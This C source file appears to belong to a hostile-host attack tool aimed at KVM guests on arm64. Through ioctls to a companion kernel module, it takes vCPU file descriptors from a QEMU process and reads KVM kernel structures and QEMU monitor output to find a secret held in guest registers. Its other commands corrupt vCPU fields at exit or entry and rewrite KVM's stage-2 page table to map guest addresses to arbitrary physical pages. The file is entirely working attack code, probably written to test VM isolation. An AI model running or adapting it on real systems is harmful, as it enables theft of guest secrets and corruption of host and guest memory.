// SPDX-License-Identifier: GPL-2.0-only
/* A guest's registers: in KVM's structures, at every exit, and through QEMU's monitor. */
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

#define MAX_VCPUS	64

/* Finds the vCPUs of a process among its open files and asks the module where they are. */
static int find_vcpus(const char *pid, struct attack_vcpu *v)
{
	char path[64], link[256];
	struct dirent *e;
	int pidfd, n = 0;
	ssize_t len;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	pidfd = (int)syscall(SYS_pidfd_open, (int)number(pid), 0);
	d = opendir(path);
	while (d && pidfd >= 0 && n < MAX_VCPUS && (e = readdir(d))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%.20s", pid, e->d_name);
		len = readlink(path, link, sizeof(link) - 1);
		if (len < 0)
			continue;
		link[len] = 0;
		if (!strstr(link, "kvm-vcpu:"))
			continue;
		v[n].fd = (int)syscall(SYS_pidfd_getfd, pidfd, atoi(e->d_name), 0);
		if (v[n].fd >= 0 && !ioctl(device(), ATTACK_VCPU, &v[n]))
			n++;
		if (v[n].fd >= 0)
			close(v[n].fd);
	}
	if (d)
		closedir(d);
	if (pidfd >= 0)
		close(pidfd);
	if (!n)
		fprintf(stderr, "attack: no vCPU in process %s\n", pid);
	return n;
}

static int read_kernel(uint64_t addr, void *buf, uint64_t len)
{
	struct attack_kread r = { .addr = addr, .len = len, .buf = (uintptr_t)buf };

	return ioctl(device(), ATTACK_KREAD, &r);
}

/* Returns how many bytes could be read. */
static uint64_t search_kernel(uint64_t addr, uint64_t len, struct needle_count *c)
{
	void *buf = aligned_alloc(16, (len + 15) & ~15UL);

	len &= ~7UL;
	if (!buf || !addr || read_kernel(addr, buf, len))
		len = 0;
	else
		needle_search(&needle, buf, len, c);
	if (buf)
		explicit_bzero(buf, len);
	free(buf);
	return len;
}

int cmd_vcpu(int argc, char **argv)
{
	struct attack_vcpu v[MAX_VCPUS];
	struct needle_count c = {};
	uint64_t bytes = 0;
	int i, n;

	if (!have_secret())
		return USAGE;
	n = find_vcpus(argv[1], v);
	for (i = 0; i < n; i++) {
		bytes += search_kernel(v[i].vcpu, v[i].vcpu_size, &c);
		if (v[i].sve_state)
			bytes += search_kernel(v[i].sve_state, v[i].sve_size, &c);
	}
	if (n)
		bytes += search_kernel(v[0].kvm, v[0].kvm_size, &c);
	printf("attack: vcpu pid=%s vcpus=%d bytes=%lu words=%lu complete=%s\n",
	       argv[1], n, bytes, (uint64_t)c.words, n && bytes ? "yes" : "no");
	found.registers += c.words;
	return n && bytes ? DONE : FAILED;
}

int cmd_watch(int argc, char **argv)
{
	struct attack_watch w = { .secret = secret, .tgid = (int)number(argv[1]) };

	if (!have_secret())
		return USAGE;
	if (ioctl(device(), ATTACK_WATCH, &w)) {
		perror("attack: watch");
		return FAILED;
	}
	sleep((unsigned int)number(argv[2]));
	if (ioctl(device(), ATTACK_RESULT, &w))
		return FAILED;
	ioctl(device(), ATTACK_STOP);
	printf("attack: watch pid=%s exits=%llu ctxt=%llu live=%llu complete=%s\n", argv[1],
	       w.exits, w.words_ctxt, w.words_live, w.exits ? "yes" : "no");
	found.registers += w.words_ctxt + w.words_live;
	return w.exits ? DONE : FAILED;
}

/* Every run of 16 hexadecimal digits is a 64-bit register or half of a SIMD one. */
static uint64_t search_text(const char *s, uint64_t *registers)
{
	uint64_t words = 0;
	char digits[17] = "";
	size_t n;

	for (*registers = 0; *s; s += n ? n : 1) {
		n = strspn(s, "0123456789abcdefABCDEF");
		if (n != 16)
			continue;
		memcpy(digits, s, 16);
		(*registers)++;
		if (needle_word(&needle, strtoull(digits, NULL, 16)))
			words++;
	}
	explicit_bzero(digits, sizeof(digits));
	return words;
}

/* The monitor greets with a prompt, and echoes the command by the character. */
static bool prompted_again(const char *buf)
{
	static const char prompt[] = "(qemu) ";
	const char *first = strstr(buf, prompt), *line;

	/* Each echo repeats the prompt's line; the one that is asked for has a line of its own. */
	line = first ? strstr(first, "\r\n") : NULL;
	return line && strstr(line, prompt);
}

static size_t ask_monitor(int fd, const char *command, char *buf, size_t size)
{
	struct pollfd p = { .fd = fd, .events = POLLIN };
	size_t used = 0;
	ssize_t n;

	if (write(fd, command, strlen(command)) < 0)
		return 0;
	/* The answer ends with the second prompt; without one, after a time no machine needs. */
	buf[0] = 0;
	while (used < size - 1 && !prompted_again(buf) && poll(&p, 1, 120000) > 0) {
		n = read(fd, buf + used, size - 1 - used);
		if (n <= 0)
			break;
		used += (size_t)n;
		buf[used] = 0;
	}
	return used;
}

int cmd_monitor(int argc, char **argv)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	size_t size = 1UL << 20;
	char *buf = malloc(size);
	uint64_t words, registers, least;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (!have_secret())
		return USAGE;
	snprintf(to.sun_path, sizeof(to.sun_path), "%s", argv[1]);
	if (!buf || fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to))) {
		fprintf(stderr, "attack: monitor %s: %s\n", argv[1], strerror(errno));
		return FAILED;
	}
	ask_monitor(fd, "info registers -a\n", buf, size);
	words = search_text(buf, &registers);
	/*
	 * 31 general registers, PC and SP, and 32 SIMD registers; without these where
	 * QEMU shows none, because by the guest's CPACR_EL1 as it sees it they are off.
	 */
	least = strstr(buf, "FPU disabled") ? 33 : 97;
	explicit_bzero(buf, size);
	close(fd);
	printf("attack: monitor registers=%lu words=%lu complete=%s\n", registers, words,
	       registers >= least ? "yes" : "no");
	found.registers += words;
	return registers >= least ? DONE : FAILED;
}

static bool find_field(const char *name, struct attack_field *f)
{
	for (f->index = 0; !ioctl(device(), ATTACK_FIELD, f); f->index++)
		if (!strcmp(f->name, name))
			return true;
	fprintf(stderr, "attack: no field %s\n", name);
	return false;
}

int cmd_fields(int argc, char **argv)
{
	static const char * const base[] = { "vcpu", "kvm", "mmu" };
	struct attack_field f = {};

	for (; !ioctl(device(), ATTACK_FIELD, &f); f.index++)
		printf("%s of=%s offset=%u size=%u\n", f.name, base[f.base], f.offset, f.size);
	return f.index ? DONE : FAILED;
}

int cmd_field(int argc, char **argv)
{
	struct attack_vcpu v[MAX_VCPUS];
	uint64_t base[3], at = argc > 3 ? number(argv[3]) : 0;
	struct attack_field f;
	unsigned char *buf;
	uint32_t i;
	int n = find_vcpus(argv[1], v);

	if (at >= (uint64_t)n || !find_field(argv[2], &f))
		return FAILED;
	buf = malloc(f.size);
	base[ATTACK_OF_VCPU] = v[at].vcpu;
	base[ATTACK_OF_KVM] = v[at].kvm;
	base[ATTACK_OF_MMU] = v[at].mmu;
	if (!buf || read_kernel(base[f.base] + f.offset, buf, f.size))
		return REFUSED;
	printf("attack: field name=%s vcpu=%lu value=0x", f.name, at);
	for (i = f.size; i-- > 0;)
		printf("%02x", buf[i]);
	printf("\n");
	explicit_bzero(buf, f.size);
	free(buf);
	return DONE;
}

int cmd_corrupt(int argc, char **argv)
{
	struct attack_corrupt c = {
		.tgid = (int)number(argv[1]),
		.when = !strcmp(argv[3], "exit") ? ATTACK_AT_EXIT :
			!strcmp(argv[3], "during") ? ATTACK_DURING : ATTACK_AT_ENTRY,
		.and_mask = number(argv[4]),
		.xor_mask = number(argv[5]),
		.count = argc > 6 ? number(argv[6]) : 0,
		.skip = argc > 7 ? number(argv[7]) : 0,
		.ec_plus_1 = argc > 8 ? (uint32_t)number(argv[8]) + 1 : 0,
	};
	struct attack_field f;

	if (!find_field(argv[2], &f))
		return USAGE;
	c.base = f.base;
	c.offset = f.offset;
	c.size = f.size < 8 ? f.size : 8;
	if (ioctl(device(), ATTACK_CORRUPT, &c)) {
		perror("attack: corrupt");
		return FAILED;
	}
	printf("attack: corrupt field=%s at=%s armed=yes\n", argv[2], argv[3]);
	return DONE;
}

static bool phys(uint64_t pa, uint64_t *value, bool write)
{
	struct attack_access a = { .pa = pa, .value = *value, .size = 8, .write = write };

	if (ioctl(device(), ATTACK_ACCESS, &a))
		return false;
	*value = a.value;
	return true;
}

#define S2_ADDR		0x0000fffffffff000UL
#define S2_VALID(e)	((e) & 1)
#define S2_TABLE(e)	(((e) & 3) == 3)

/* Address of the level 3 entry for @ipa in KVM's own stage-2 table, 0 if none. */
static uint64_t find_leaf(uint64_t pgd, uint64_t vtcr, uint64_t ipa)
{
	/* VTCR_EL2.SL0, 4 KiB granule: 0, 1, 2 start at level 2, 1, 0 */
	int level = 2 - (int)(vtcr >> 6 & 3);
	uint64_t at = pgd + (ipa >> (12 + 9 * (3 - level))) * 8, entry = 0;

	for (; level < 3; level++) {
		if (!phys(at, &entry, false) || !S2_TABLE(entry))
			return 0;
		at = (entry & S2_ADDR) + (ipa >> (12 + 9 * (2 - level)) & 511) * 8;
	}
	return at;
}

static bool field_value(const struct attack_vcpu *v, const char *name, uint64_t *value)
{
	uint64_t base[] = { v->vcpu, v->kvm, v->mmu };
	struct attack_field f;

	return find_field(name, &f) && f.size == 8 &&
	       !read_kernel(base[f.base] + f.offset, value, 8);
}

/*
 * Makes KVM's own stage-2 table map @IPA to @PA, with the attributes that the
 * page @NEAR of the same guest has: a hostile host gives a guest any page. KVM
 * has not counted the new entry, so when the VM ends the host finds the table's
 * page with a reference too few and says "Bad page state": the attack's doing.
 */
int cmd_remap(int argc, char **argv)
{
	uint64_t ipa = number(argv[2]), pa = number(argv[3]), near = number(argv[4]);
	uint64_t pgd, vtcr, from, to, entry = 0;
	struct attack_vcpu v[MAX_VCPUS];

	if (!find_vcpus(argv[1], v) || !field_value(&v[0], "pgd_phys", &pgd) ||
	    !field_value(&v[0], "vtcr", &vtcr))
		return FAILED;
	from = find_leaf(pgd, vtcr, near);
	to = find_leaf(pgd, vtcr, ipa);
	if (!from || !to || !phys(from, &entry, false) || !S2_VALID(entry)) {
		fprintf(stderr, "attack: no table entry to copy\n");
		return FAILED;
	}
	entry = (entry & ~S2_ADDR) | pa;
	if (!phys(to, &entry, true))
		return FAILED;
	printf("attack: remap ipa=0x%lx entry=0x%lx\n", ipa, entry);
	return DONE;
}

int cmd_stop(int argc, char **argv)
{
	struct attack_watch w = {};

	if (ioctl(device(), ATTACK_STOP) || ioctl(device(), ATTACK_RESULT, &w))
		return FAILED;
	printf("attack: stop applied=%llu\n", w.corrupted);
	return DONE;
}
